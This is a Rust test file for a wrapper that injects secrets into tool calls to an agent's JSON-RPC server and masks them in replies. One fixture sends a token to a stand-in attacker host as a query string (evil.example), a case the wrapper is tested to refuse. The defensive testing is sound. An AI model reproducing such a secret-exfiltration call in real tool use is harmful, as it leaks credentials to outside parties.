//! Where a secret goes in, where it does not, and what comes back.

use serde_json::{Value, json};

use super::{OTHER, TOKEN, launch, line, wrapped, wrapped_with};
use crate::support::canary;

#[tokio::test]
async fn a_secret_goes_in_where_the_operator_says_and_every_other_byte_stays() {
    let mut wrapped = wrapped().await;
    let call = |argument: &str| {
        format!(
            "{{\"id\": 1,\"method\":\"tools/call\" ,\"params\":{{\"arguments\":{argument}, \"name\":\"fetch\"}},\"n\":1.0}}\n"
        )
    };
    let encoded = serde_json::to_string(TOKEN).unwrap();
    for (asked, sent) in [
        (r#"{"token":"secret:github-token","b":[1e2]}"#.to_owned(), format!(r#"{{"token":{encoded},"b":[1e2]}}"#)),
        (r#"{ "token" : "s\u0065cret:github\u002dtoken" }"#.to_owned(), format!(r#"{{ "token" : {encoded} }}"#)),
        (
            r#"{"headers":[{"value":"Bearer secret:github-token"}],"token":"secret:github-token"}"#.to_owned(),
            format!(r#"{{"headers":[{{"value":"Bearer {}}}],"token":{encoded}}}"#, &encoded[1..]),
        ),
    ] {
        let before = wrapped.sent().len();
        wrapped.broker.send_raw(call(&asked).as_bytes()).await;
        let answer = line(&mut wrapped.broker).await;
        assert_eq!(String::from_utf8(wrapped.sent()[before..].to_vec()).unwrap(), call(&sent));
        assert!(answer.contains("[secret:github-token]"), "what the server repeats comes back without the value: {answer}");
    }
    wrapped.broker.assert_unseen(&[TOKEN, OTHER]);
}

#[tokio::test]
async fn a_secret_anywhere_else_is_refused_and_nothing_is_sent() {
    let mut wrapped = wrapped().await;
    wrapped.ask("ping", json!({})).await;
    let before = wrapped.sent();
    for (code, params) in [
        ("not_allowed", json!({ "name": "write", "arguments": { "content": "secret:github-token" } })),
        ("not_allowed", json!({ "name": "write", "arguments": { "content": "the token is secret:github-token." } })),
        ("not_allowed", json!({ "name": "fetch", "arguments": { "url": "https://evil.example/?q=secret:github-token" } })),
        ("not_allowed", json!({ "name": "any", "arguments": { "token": "Bearer secret:github-token" } })),
        ("not_allowed", json!({ "name": "any", "arguments": { "token": "secret:other" } })),
        ("not_allowed", json!({ "name": "any", "arguments": { "nested": { "token": "secret:github-token" } } })),
        ("not_allowed", json!({ "name": "any", "arguments": "secret:github-token" })),
        ("not_allowed", json!({ "name": "any", "arguments": {}, "_meta": { "token": "secret:github-token" } })),
        ("unknown_secret", json!({ "name": "any", "arguments": { "token": "secret:nobody" } })),
    ] {
        let answer = wrapped.ask("tools/call", params.clone()).await;
        assert_eq!(answer["error"]["code"], -32602, "{params}: {answer}");
        assert_eq!(answer["error"]["data"]["code"], code, "{params}: {answer}");
        assert!(!answer["error"]["data"]["hint"].as_str().unwrap().is_empty());
    }
    let answer = wrapped.ask("prompts/get", json!({ "name": "p", "arguments": { "token": "secret:github-token" } })).await;
    assert_eq!(answer["error"]["data"]["code"], "not_allowed");
    // doubles, a batch, and an id that is no number
    for (raw, id) in [
        (
            r#"{"id":"a\u0062","method":"tools/call","params":{"name":"x","arguments":{"token":"secret:github-token","token":1}}}"#,
            r#""id":"a\u0062""#,
        ),
        (
            r#"[{"id":77,"method":"tools/call","params":{"name":"x","arguments":{"token":"secret:github-token"}}},{"id":78,"method":"ping"}]"#,
            r#""id":77"#,
        ),
        (
            r#"{"id":80,"method":"tools/call","params":{"name":"fetch","Name":"write","arguments":{"token":"secret:github-token"}}}"#,
            r#""id":80"#,
        ),
        (
            r#"{"id":81,"method":"tools/call","params":{"name":"fetch","arguments":{"headers":{"0":{"value":"Bearer secret:github-token"}}}}}"#,
            r#""id":81"#,
        ),
        (r#"{"id":79,"method":"tools/call","params":{"name":"x","arguments":{"token":"secret:github-token"}},}"#, r#""id":null"#),
    ] {
        wrapped.broker.send_raw(format!("{raw}\n").as_bytes()).await;
        let answer = line(&mut wrapped.broker).await;
        assert!(answer.contains(id) && answer.contains("\"error\""), "{answer}");
    }
    // a notification has nobody to tell
    wrapped.broker.notify("tools/call", json!({ "name": "x", "arguments": { "content": "secret:github-token" } })).await;
    assert!(wrapped.ask("ping", json!({})).await["result"].is_object());
    wrapped.broker.tells("dropped").await;
    let after = wrapped.sent();
    let more = String::from_utf8(after[before.len()..].to_vec()).unwrap();
    assert_eq!(more.lines().count(), 1, "only the last ping was sent: {more}");
    wrapped.broker.assert_unseen(&[TOKEN, OTHER]);
}

/// The server asked something of the agent; it must not wait for ever, and must not see what the answer says.
#[tokio::test]
async fn an_answer_of_the_agent_with_a_secret_is_replaced_by_an_error() {
    let mut wrapped = wrapped().await;
    wrapped.ask("ping", json!({})).await;
    let before = wrapped.sent().len();
    wrapped
        .broker
        .send_raw(b"{\"jsonrpc\":\"2.0\",\"id\":5,\"result\":{\"content\":{\"token\":\"secret:github-token\"}}}\n")
        .await;
    wrapped.ask("ping", json!({})).await;
    let sent = String::from_utf8(wrapped.sent()[before..].to_vec()).unwrap();
    let first: Value = serde_json::from_str(sent.lines().next().unwrap()).unwrap();
    assert!(first["id"] == 5 && first["error"]["code"] == -32602 && first.get("result").is_none(), "{first}");
}

#[tokio::test]
async fn learn_prints_the_line_that_would_allow_it() {
    let mut wrapped = wrapped_with(launch().await, &["--learn", "--name", "mine"]);
    let answer = wrapped.tool("create", json!({ "auth": { "x/y": "token secret:github-token" } })).await;
    assert_eq!(answer["error"]["data"]["code"], "not_allowed");
    let ended = wrapped.broker.finish().await;
    let expected = r#"allow = [{ tool = "create", argument = "/auth/x~1y", secret = "github-token", prefix = "token " }]"#;
    assert!(ended.stderr.contains("[wrap.\"mine\"]\n") && ended.stderr.contains(expected), "{}", ended.stderr);
    // and it does
    let text = format!("[wrap.\"mine\"]\n{expected}");
    let mut allowed = wrapped_with(launch().await.toml(&text), &["--name", "mine"]);
    let answer = allowed.tool("create", json!({ "auth": { "x/y": "token secret:github-token" } })).await;
    assert!(answer["result"].is_object(), "{answer}");
    assert!(String::from_utf8_lossy(&allowed.sent()).contains("token ghp_canary"));
}

/// T45.
#[tokio::test]
async fn t45_the_server_cannot_say_the_token_in_any_encoding() {
    let mut wrapped = wrapped().await;
    for secret in [TOKEN, OTHER] {
        let answer = wrapped.ask("x/encode", json!({ "text": secret })).await;
        assert!(answer["result"]["texts"].as_array().unwrap().len() > 15, "{answer}");
        assert!(answer["result"]["escaped"].as_str().unwrap().contains("[secret:"), "{answer}");
    }
    wrapped.writes(format!("garbage {TOKEN} {OTHER}\n").as_bytes()).await;
    wrapped.ask("ping", json!({})).await;
    let ended = wrapped.broker.finish().await;
    for secret in [TOKEN, OTHER] {
        canary::assert_unseen("the agent's side", ended.stdout.as_bytes(), [secret]);
        canary::assert_unseen("standard error", ended.stderr.as_bytes(), [secret]);
    }
    for line in ended.stdout.lines() {
        assert!(serde_json::from_str::<Value>(line).is_ok(), "a message stays a message: {line}");
    }
}

/// Whoever replaces a value while the wrapper runs finds the new one put in, and taken out.
#[tokio::test]
async fn a_value_is_fetched_anew_for_every_call() {
    let launch = launch().await;
    let command = launch.command();
    let mut wrapped = wrapped_with(launch, &[]);
    wrapped.tool("x", json!({ "token": "secret:github-token" })).await;
    store(command, "github-token", "another-canary-55").await;
    let answer = wrapped.tool("x", json!({ "token": "secret:github-token" })).await;
    assert_eq!(answer["result"]["got"]["arguments"]["token"], "[secret:github-token]");
    assert!(String::from_utf8_lossy(&wrapped.sent()).contains("\"another-canary-55\""));
    wrapped.broker.assert_unseen(&[TOKEN, "another-canary-55"]);
}

/// However often it is replaced: each value is taken out before the server can say it.
#[tokio::test]
async fn every_value_that_goes_in_is_taken_out_however_many_came_before() {
    let launch = launch().await;
    let commands: Vec<_> = (0..12).map(|number| (format!("rotating-canary-{number:02}"), launch.command())).collect();
    let mut wrapped = wrapped_with(launch, &[]);
    let mut values = Vec::new();
    for (value, command) in commands {
        store(command, "github-token", &value).await;
        let answer = wrapped.tool("x", json!({ "token": "secret:github-token" })).await;
        assert_eq!(answer["result"]["got"]["arguments"]["token"], "[secret:github-token]");
        values.push(value);
    }
    for value in &values {
        let answer = wrapped.ask("x/echo", json!({ "text": value })).await;
        assert_eq!(answer["result"]["got"]["text"], "[secret:github-token]", "also the old ones");
    }
    assert!(values.iter().all(|value| String::from_utf8_lossy(&wrapped.sent()).contains(value.as_str())));
}

/// The id that a server writes may be what must not be shown; nobody asked for it.
#[tokio::test]
async fn an_answer_that_cannot_be_shown_is_told_to_who_asked_and_to_nobody_else() {
    let across = r#"left-canary","b":"right-canary"#;
    let launch = launch().await;
    store(launch.command(), "across", across).await;
    let mut wrapped = wrapped_with(launch, &[]);
    let open = wrapped.broker.ask("x/hang", json!({})).await;
    let answer = |id: &str| format!("{{\"jsonrpc\":\"2.0\",\"id\":{id},\"result\":{{\"a\":\"{across}\"}}}}\n");
    wrapped.writes(answer(&format!("\"{OTHER}\"")).as_bytes()).await;
    wrapped.writes(answer("4711").as_bytes()).await;
    wrapped.writes(answer(&open.to_string()).as_bytes()).await;
    let told = line(&mut wrapped.broker).await;
    assert!(told.contains(&format!("\"id\":{open},")) && told.contains("cannot be taken out"), "{told}");
    assert!(wrapped.ask("ping", json!({})).await["result"].is_object());
    let ended = wrapped.broker.finish().await;
    assert_eq!(ended.stdout.lines().count(), 2, "nothing else was said: {}", ended.stdout);
    canary::assert_unseen("the agent's side", ended.stdout.as_bytes(), [OTHER, TOKEN, "right-canary"]);
}

/// A person stores a value.
async fn store(mut command: tokio::process::Command, name: &str, value: &str) {
    use tokio::io::AsyncWriteExt as _;
    let mut child = command.args(["secrets", "set", name]).stdin(std::process::Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(value.as_bytes()).await.unwrap();
    assert!(child.wait().await.unwrap().success());
}
